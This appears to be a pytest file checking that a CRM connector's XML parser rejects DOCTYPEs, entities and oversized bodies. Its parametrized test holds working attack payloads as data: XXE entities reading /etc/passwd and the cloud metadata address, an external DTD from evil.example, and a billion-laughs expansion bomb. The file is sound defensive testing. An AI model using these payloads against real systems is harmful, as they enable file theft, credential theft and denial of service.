"""The one XML parser refuses DOCTYPE, entities and oversized bodies without expanding them."""

from __future__ import annotations

import resource
import time

import pytest

from crmhub.connectors import errors, xml

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><results>&lol9;</results>"
)


def test_a_plain_document_parses():
    root = xml.parse(b'<?xml version="1.0"?><results><message>Success</message></results>')
    assert root.findtext("message") == "Success"


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]><r>&x;</r>',
        b'<!doctype r SYSTEM "http://evil.example/dtd"><r/>',
        b"<!DOCTYPE r><r/>",
        BILLION_LAUGHS,
    ],
)
def test_doctype_and_entities_are_refused_fast_and_small(body):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    with pytest.raises(errors.UnsafeXML):
        xml.parse(body)
    assert time.monotonic() - started < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KiB


@pytest.mark.parametrize("body", [b"<results><message>Succ", b"<html><body>500</body>", b""])
def test_broken_or_html_bodies_are_bad_responses(body):
    with pytest.raises(errors.BadResponse):
        xml.parse(body)


def test_an_oversized_body_is_refused_before_parsing():
    with pytest.raises(errors.BadResponse, match="larger than"):
        xml.parse(b"<r>" + b"x" * 2000 + b"</r>", max_bytes=1000)


def test_no_lxml_parse_call_outside_the_hardened_helper():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "crmhub"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "xml.py" and path.parent.name == "connectors":
            continue
        text = path.read_text()
        for needle in (
            "etree.fromstring",
            "etree.XML(",
            "etree.parse",
            "etree.iterparse",
            "huge_tree=True",
            "XMLParser(",
        ):
            if needle in text:
                offenders.append(f"{path.relative_to(root)}: {needle}")
    assert offenders == []
